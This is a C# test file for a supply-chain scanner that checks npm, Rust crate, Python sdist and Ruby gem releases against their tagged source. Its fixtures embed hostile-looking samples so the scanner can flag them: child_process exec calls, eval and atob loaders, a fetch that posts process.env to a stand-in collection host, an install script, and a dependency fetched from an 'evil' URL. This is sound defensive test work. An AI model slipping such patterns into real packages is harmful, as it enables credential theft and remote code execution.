using System.Text;
using Sluice.Artifacts;
using Sluice.Findings;
using Sluice.Policies;
using Sluice.Sources;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>What honest builds and hostile hands do to files, ecosystem by ecosystem.</summary>
public sealed class FileOriginTests
{
    private const string Manifest = """{"name":"add","version":"1.2.3","license":"MIT","main":"index.js","scripts":{"test":"node test.js"},"devDependencies":{"typescript":"^5.0.0"},"dependencies":{"ms":"workspace:^"}}""";

    private static string Code(int seed, int functions = 20) =>
        string.Concat(Enumerable.Range(0, functions).Select(i => $"export function compute{seed}Value{i}(amount, factor) {{\n  return amount.total{i} * factor + lookup('setting-{seed}{i}');\n}}\n"));

    /// <summary>What a minifier makes of <see cref="Code"/>: other names for parameters, one line.</summary>
    private static string Minified(int seed, int functions = 20) =>
        string.Concat(Enumerable.Range(0, functions).Select(i => $"function compute{seed}Value{i}(a,b){{return a.total{i}*b+lookup(\"setting-{seed}{i}\")}}")) + "\n";

    private static byte[] Texts(params (string Path, string Text)[] files) => TestArchive.Tgz([.. files.Select(file => (file.Path, Encoding.UTF8.GetBytes(file.Text)))]);

    private static FileOrigin OriginOf(Report report, string path)
    {
        var comparison = SourceFolder.Comparison(report);
        return comparison.Unexplained.Any(file => file.Path == path) ? FileOrigin.Unexplained
            : comparison.Shares.Where(share => share.Origin != FileOrigin.Unexplained).OrderByDescending(share => share.Files > 0 && share.Origin != FileOrigin.Source).First().Origin;
    }

    private static Report Npm((string Path, string Text)[] source, params (string Path, string Text)[] shipped)
    {
        using var tree = SourceFolder.Of("v1.2.3", [("package.json", Manifest), .. source]);
        return tree.Hold("add-1.2.3.tgz", TestArchive.Npm(Manifest, shipped));
    }

    private static Report NpmManifest(string shipped, string? source = null)
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", source ?? Manifest), ("index.js", Code(1)));
        return tree.Hold("add-1.2.3.tgz", TestArchive.Npm(shipped, ("index.js", Code(1))));
    }

    [Theory]
    [InlineData("\r\n", "")]
    [InlineData("\n", "\ufeff")]
    public void Line_ends_and_byte_order_marks_make_no_difference(string end, string front)
    {
        var report = Npm([("index.js", Code(1))], ("index.js", front + Code(1).Replace("\n", end, StringComparison.Ordinal)));

        Assert.Equal(FileOrigin.Normalised, OriginOf(report, "package/index.js"));
        Assert.Empty(SourceFolder.Provenance(report));
    }

    [Fact]
    public void Nor_does_the_last_line_end_or_the_version_put_in()
    {
        var report = Npm([("index.js", Code(1) + "\n"), ("version.js", Code(2) + "exports.version = '0.0.0-dev';\n")], ("index.js", Code(1).TrimEnd()), ("version.js", Code(2) + "exports.version = '1.2.3';\n"));

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(2, SourceFolder.Comparison(report).Of(FileOrigin.Normalised).Files);
    }

    [Theory]
    [InlineData("exports.version = '1.2.3'; require('child_process').execSync('id');\n")]
    [InlineData("exports.loadSomething = 'elsewhere';\n")]
    [InlineData("exports.version = true || '1.2.3';\n")]
    public void A_line_that_does_more_than_name_the_version_is_a_change(string line)
    {
        var report = Npm([("index.js", Code(1) + "exports.version = '0.0.0';\n")], ("index.js", Code(1) + line));

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
        Assert.Equal(Decision.Deny, report.Decision);
    }

    [Fact]
    public void A_document_that_differs_informs()
    {
        var report = Npm([("README.md", "# Add\n\nIt adds numbers.\n")], ("README.md", "# Add\n\nIt adds numbers and more than that.\n"), ("CHANGELOG.md", "# 1.2.3\n"));

        Assert.Equal(["unexplained Info"], SourceFolder.Provenance(report));
    }

    [Theory]
    [InlineData("""{"name":"add","version":"1.2.3","license":"MIT","main":"index.js","dependencies":{"ms":"^2.0.0"},"gitHead":"0123","_id":"add@1.2.3"}""")]
    [InlineData("""{"version":"1.2.3","name":"add","license":"MIT","main":"index.js","scripts":{"test":"node test.js"},"dependencies":{"ms":"^2.0.0"},"peerDependencies":{"typescript":"^5.0.0"}}""")]
    public void What_package_managers_write_into_a_manifest_is_no_change(string shipped) => Assert.Empty(SourceFolder.Provenance(NpmManifest(shipped)));

    [Theory]
    [InlineData(",\"scripts\":{\"postinstall\":\"node setup.js\"}", "the script 'postinstall'")]
    [InlineData(",\"dependencies\":{\"plain-fake-js\":\"^4.2.1\"}", "the dependency 'plain-fake-js'")]
    [InlineData(",\"bin\":{\"git\":\"index.js\"}", "the command 'git'")]
    [InlineData(",\"optionalDependencies\":{\"fetch-later\":\"https://evil.example.invalid/x.tgz\"}", "the dependency 'fetch-later'")]
    public void What_only_the_shipped_manifest_asks_for_is_named(string more, string expected)
    {
        var report = NpmManifest($$"""{"name":"add","version":"1.2.3","license":"MIT","main":"index.js"{{more}}}""");

        Assert.Contains(expected, Assert.Single(report.Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch").Finding.Message, StringComparison.Ordinal);
        Assert.Equal(Decision.Deny, report.Decision);
    }

    [Fact]
    public void Built_files_that_consist_of_the_source_are_derived()
    {
        var report = Npm([("src/index.ts", Code(1))], ("dist/index.min.js", Minified(1)), ("dist/index.d.ts", string.Concat(Enumerable.Range(0, 20).Select(i => $"export declare function compute1Value{i}(amount: any, factor: number): number;\n"))));

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(2, SourceFolder.Comparison(report).Of(FileOrigin.Derived).Files);
    }

    [Fact]
    public void A_bundle_of_other_peoples_code_is_told_once_and_stops_nothing()
    {
        var bundle = Minified(1) + Minified(900, 200) + "require('child_process');fetch('https://cdn.example/x');eval(\"1\");";
        var report = Npm([("src/index.ts", Code(1))], ("dist/index.js", bundle), ("dist/more.js", Minified(700, 100)), ("cli.js", bundle));

        Assert.Equal(["unexplained Low"], SourceFolder.Provenance(report));
        Assert.DoesNotContain(report.Findings, finding => finding.Action == PolicyAction.Deny && finding.Finding.Rule.Family == "provenance");
    }

    [Theory]
    [InlineData("require('child_process').exec(Buffer.from(\"PAYLOAD\",'hex'))")]
    [InlineData("new Function(atob(\"PAYLOAD\"))()")]
    [InlineData("fetch('https://collect.example.invalid/'+key,{body:process.env})")]
    public void A_strange_part_in_what_is_built_is_named(string payload)
    {
        var hidden = Convert.ToHexStringLower(Enumerable.Range(0, 200).Select(i => (byte)(i * 37)).ToArray());
        var report = Npm([("src/index.ts", Code(1, 60))], ("dist/index.min.js", Minified(1, 60) + payload.Replace("PAYLOAD", hidden, StringComparison.Ordinal)));

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
        Assert.DoesNotContain(hidden[..40], string.Concat(report.Findings.Select(finding => finding.Finding.Message + string.Concat(finding.Finding.Evidence.Select(pair => pair.Value)))), StringComparison.Ordinal);
    }

    [Fact]
    public void A_strange_file_among_what_was_built_is_held_whatever_its_size()
    {
        const string Strange = "const parts = ['collect'];\nfetch('https://collect.example.invalid/' + parts[0], { body: gatherEverything(settings) });\n";
        (string, string)[] built = [.. Enumerable.Range(1, 4).Select(i => ($"dist/part{i}.js", Minified(i)))];
        (string, string)[] source = [.. Enumerable.Range(1, 4).Select(i => ($"src/part{i}.ts", Code(i)))];

        var finding = Assert.Single(Npm(source, [.. built, ("dist/telemetry.js", Strange)]).Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
        Assert.Equal((Severity.High, Confidence.Low, PolicyAction.Hold), (finding.Finding.Severity, finding.Finding.Confidence, finding.Action));
        var large = Assert.Single(Npm(source, [.. built, ("dist/vendor.js", Strange + Minified(900, 200))]).Findings, finding => finding.Finding.Rule.Id == "provenance/source-mismatch");
        Assert.Equal((Severity.High, Confidence.Low, PolicyAction.Hold), (large.Finding.Severity, large.Finding.Confidence, large.Action));
        Assert.DoesNotContain("source-mismatch High", SourceFolder.Provenance(Npm(source, [.. built, ("dist/vendor.js", Minified(900, 200))])));
    }

    [Fact]
    public void A_source_map_is_derived_when_its_texts_are_those_of_the_source()
    {
        var map = Encoding.UTF8.GetString(TestMap.Bytes(TestMap.Map(("../src/index.ts", Code(1)), ("../src/other.ts", Code(2)))));

        Assert.Equal(FileOrigin.Derived, OriginOf(Npm([("src/index.ts", Code(1)), ("src/other.ts", Code(2))], ("dist/index.js.map", map)), "package/dist/index.js.map"));
        Assert.Equal(FileOrigin.Unexplained, OriginOf(Npm([("src/index.ts", Code(3))], ("dist/index.js.map", map)), "package/dist/index.js.map"));
    }

    [Fact]
    public void New_code_among_the_source_that_runs_something_stops_the_release()
    {
        var report = Npm([("lib/a.js", Code(1)), ("lib/b.js", Code(2))], ("lib/a.js", Code(1)), ("lib/b.js", Code(2)), ("lib/c.js", "require('child_process').execSync('collectEverything --unheardOf ' + process.argv[somethingElse]);\n"));

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
    }

    [Fact]
    public void A_file_that_only_moved_is_of_the_source()
    {
        var report = Npm([("npm/index.js", Code(1))], ("index.js", Code(1)));

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(1.0, SourceFolder.Comparison(report).Explained);
    }

    [Fact]
    public void Where_most_files_differ_it_is_asked_whether_this_is_the_source()
    {
        (string Path, string Text)[] files = [.. Enumerable.Range(0, 8).Select(i => ($"lib/part{i}.js", Code(i)))];
        var report = Npm(files, [.. files.Select((file, i) => (file.Path, file.Text + $"exports.another{i} = 'release';\n"))]);

        Assert.Equal(["source-mismatch Medium"], SourceFolder.Provenance(report));
    }

    [Fact]
    public void A_directory_is_held_against_its_source_too()
    {
        using var source = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("index.js", Code(1)));
        using var folder = new TemporaryFolder();
        folder.File("out/package.json", Manifest);
        folder.File("out/index.js", Code(1) + "exports.more = 'here';\n");

        var run = CliRun.In(folder.Path, "screen", "out", "--source", source.Path);

        Assert.Equal(1, run.ExitCode);
        Assert.Contains("index.js:61  differs from 'index.js' of tag v1.2.3", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void What_cargo_writes_is_no_change_and_what_somebody_adds_is()
    {
        const string Written = "[package]\nname = \"adder\"\nversion = \"1.2.3\"\n\n[dependencies]\nserde = { workspace = true }\n";
        using var source = SourceFolder.Of("v1.2.3", ("Cargo.toml", "[workspace]\nmembers = [\"crates/adder\"]\n"), ("crates/adder/Cargo.toml", Written), ("crates/adder/src/lib.rs", "pub fn add() {}\n"));
        byte[] Crate(string dependency) => Texts(
            ("adder-1.2.3/.cargo_vcs_info.json", "{\"git\":{\"sha1\":\"00\"},\"path_in_vcs\":\"crates/adder\"}"),
            ("adder-1.2.3/Cargo.toml", $"# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nname = \"adder\"\nversion = \"1.2.3\"\n\n[dependencies.{dependency}]\nversion = \"1\"\n"),
            ("adder-1.2.3/Cargo.toml.orig", Written),
            ("adder-1.2.3/src/lib.rs", "pub fn add() {}\n"));

        Assert.Empty(SourceFolder.Provenance(source.Hold("adder-1.2.3.crate", Crate("serde"))));
        Assert.Contains("source-mismatch High", SourceFolder.Provenance(source.Hold("adder-1.2.3.crate", Crate("not-serde"))));
    }

    [Fact]
    public void An_sdist_has_papers_of_its_own()
    {
        using var source = SourceFolder.Of("v1.0", ("pyproject.toml", "[project]\nname = \"acme-add\"\ndynamic = [\"version\"]\n"), ("src/acme_add/__init__.py", "def add(first, second):\n    return first + second\n"), ("src/acme_add/_version.py", "import subprocess\n\ndef get():\n    return subprocess.check_output(['git', 'describe'])\n"));
        var sdist = Texts(
            ("acme_add-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: acme-add\nVersion: 1.0\nLicense: MIT\n"),
            ("acme_add-1.0/pyproject.toml", "[project]\nname = \"acme-add\"\ndynamic = [\"version\"]\n"),
            ("acme_add-1.0/setup.cfg", "[egg_info]\ntag_build = \ntag_date = 0\n"),
            ("acme_add-1.0/src/acme_add/__init__.py", "def add(first, second):\n    return first + second\n"),
            ("acme_add-1.0/src/acme_add/_version.py", "__version__ = '1.0'\n"),
            ("acme_add-1.0/src/acme_add.egg-info/SOURCES.txt", "setup.cfg\n"));

        var report = source.Hold("acme_add-1.0.tar.gz", sdist);

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(1.0, SourceFolder.Comparison(report).Explained);
    }

    [Fact]
    public void A_declared_binary_is_generated_too()
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("index.js", Code(1)));
        var report = Screening.Of("add-1.2.3.tgz", TestArchive.Npm(Manifest, ("index.js", Code(1)), ("dist/add.wasm", "\0asm\u0001\0\0\0")), new ScreenOptions { Source = tree.Request() with { Generated = [Pattern("dist/**")] } });

        Assert.Empty(SourceFolder.Provenance(report));
        Assert.Equal(1, SourceFolder.Comparison(report).Of(FileOrigin.Generated).Files);
    }

    [Fact]
    public void A_declared_file_with_a_strange_part_is_told_all_the_same()
    {
        var hidden = Convert.ToHexStringLower(Enumerable.Range(0, 200).Select(i => (byte)(i * 37)).ToArray());
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest), ("src/index.ts", Code(1, 60)));
        var report = Screening.Of("add-1.2.3.tgz", TestArchive.Npm(Manifest, ("dist/index.js", Minified(1, 60) + $"eval(atob('{hidden}'))")), new ScreenOptions { Source = tree.Request() with { Generated = [Pattern("dist/**")] } });

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
    }

    [Fact]
    public void A_build_that_is_committed_late_is_derived_unless_something_came_in()
    {
        var committed = Code(1).Replace("export ", "", StringComparison.Ordinal);
        (string, string)[] source = [("src/index.js", Code(1) + Code(2, 2)), ("dist/index.js", committed)];

        Assert.Empty(SourceFolder.Provenance(Npm(source, ("dist/index.js", committed + Code(2, 2).Replace("export ", "", StringComparison.Ordinal)))));
        Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, ("dist/index.js", committed + "fetch('https://collect.example.invalid/');\n"))));
    }

    [Theory]
    [InlineData("lib/index.js", "src/index.ts")]
    [InlineData("index.js", "src/index.js")]
    public void So_is_one_that_is_committed_beside_its_source_whatever_its_folder_is_called(string built, string written)
    {
        var committed = Code(1).Replace("export ", "", StringComparison.Ordinal);
        (string, string)[] source = [(written, Code(1) + Code(2, 2)), (built, committed)];

        Assert.Empty(SourceFolder.Provenance(Npm(source, (built, committed + Code(2, 2).Replace("export ", "", StringComparison.Ordinal)))));
        Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, (built, committed + "fetch('https://collect.example.invalid/');\n"))));
    }

    [Fact]
    public void A_file_that_only_leads_to_the_source_is_not_built_of_it()
    {
        (string, string)[] source = [("src/index.js", Code(1)), ("index.js", "module.exports = require('./src/index.js');\n"), ("test/hostile.js", "1;\n")];

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(Npm(source, ("index.js", "module.exports = require('./test/hostile.js');\n"))));
    }

    [Fact]
    public void The_source_itself_has_to_be_what_ships_however_little_changes()
    {
        var report = Npm([("lib/index.js", Code(1))], ("lib/index.js", Code(1).Replace("amount.total3 * factor", "factor", StringComparison.Ordinal)));

        Assert.Equal(["source-mismatch High"], SourceFolder.Provenance(report));
        Assert.Equal(11, report.Findings.First(finding => finding.Finding.Rule.Family == "provenance").Finding.Line);
    }

    [Fact]
    public void Entry_points_that_a_build_writes_inform()
    {
        var report = NpmManifest("""{"name":"add","version":"1.2.3","license":"MIT","main":"./index.js","module":"index.mjs"}""");

        Assert.Equal(["source-mismatch Info"], SourceFolder.Provenance(report));
    }

    [Fact]
    public void A_script_in_wide_characters_is_compared_too()
    {
        using var tree = SourceFolder.Of("v1.2.3", [("package.json", Encoding.UTF8.GetBytes(Manifest)), ("install.ps1", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("Write-Host 'installing'\n")).ToArray())]);
        var report = tree.Hold("add-1.2.3.tgz", TestArchive.Tgz(("package/package.json", Encoding.UTF8.GetBytes(Manifest)), ("package/install.ps1", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("Invoke-Something 'else'\n")).ToArray())));

        Assert.Contains("source-mismatch High", SourceFolder.Provenance(report));
    }

    [Fact]
    public void A_gem_is_what_is_in_its_data()
    {
        using var tree = SourceFolder.Of("v1.0.0", ("add.gemspec", "Gem::Specification.new do |s|\n  s.name = 'add'\nend\n"), ("lib/add.rb", "module Add\n  TOTAL = 1\nend\n"));
        byte[] Gem(string code) => TestArchive.Tar(
            ("metadata.gz", TestArchive.Gzip("--- !ruby/object:Gem::Specification\nname: add\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\nlicenses:\n- MIT\n"u8.ToArray())),
            ("data.tar.gz", TestArchive.Tgz(("lib/add.rb", Encoding.UTF8.GetBytes(code)))));

        Assert.Empty(SourceFolder.Provenance(tree.Hold("add-1.0.0.gem", Gem("module Add\n  TOTAL = 1\nend\n"))));
        Assert.Contains("source-mismatch High", SourceFolder.Provenance(tree.Hold("add-1.0.0.gem", Gem("module Add\n  TOTAL = 1\n  system('id')\nend\n"))));
    }

    [Fact]
    public void What_npm_packs_comes_from_the_source()
    {
        using var tree = SourceFolder.Of("v1.2.3", ("package.json", Manifest.Replace("index.js", "lib/index.js", StringComparison.Ordinal).Replace("\"license\"", "\"files\":[\"lib\"],\"license\"", StringComparison.Ordinal)), ("lib/index.js", Code(1)), ("test.js", "1;\n"), ("README.md", "# Add\n"));
        var file = tree.Pack();

        var comparison = SourceFolder.Comparison(tree.Hold("add-1.2.3.tgz", File.ReadAllBytes(file)));

        Assert.Equal(3, comparison.Files);
        Assert.Equal(1.0, comparison.Explained);
    }

    private static Sluice.Configuration.Glob Pattern(string text) => Sluice.Configuration.Glob.TryParse(text, out var glob, out _) ? glob : throw new ArgumentException(text, nameof(text));
}
